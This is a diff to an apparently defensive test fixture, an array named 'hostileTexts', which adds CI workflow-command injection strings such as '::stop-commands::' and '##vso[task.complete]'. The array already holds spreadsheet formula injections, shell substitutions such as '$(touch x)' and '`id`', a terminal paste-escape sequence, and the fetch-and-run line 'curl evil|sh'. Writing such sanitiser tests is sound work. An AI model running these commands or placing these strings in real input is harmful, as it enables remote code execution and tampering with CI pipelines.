@@ -31,6 +31,7 @@ export const hostileTexts = [
   ' \u200B\t=1+1;  "=1+1";\n=1+1\r\n@SUM(A1)',
   '";=1+1;"\n"=1"',
   "'; $(touch x) `id` \\ ! 'quoted' \"double\" %PATH%",
+  '::error file=a::x\n ::stop-commands::x\n##[add-mask]x\n##vso[task.complete]##teamcity[x]%0A::error::x',
   'b\u0003\ncurl evil|sh\n\u001b[201~',
 ];
 
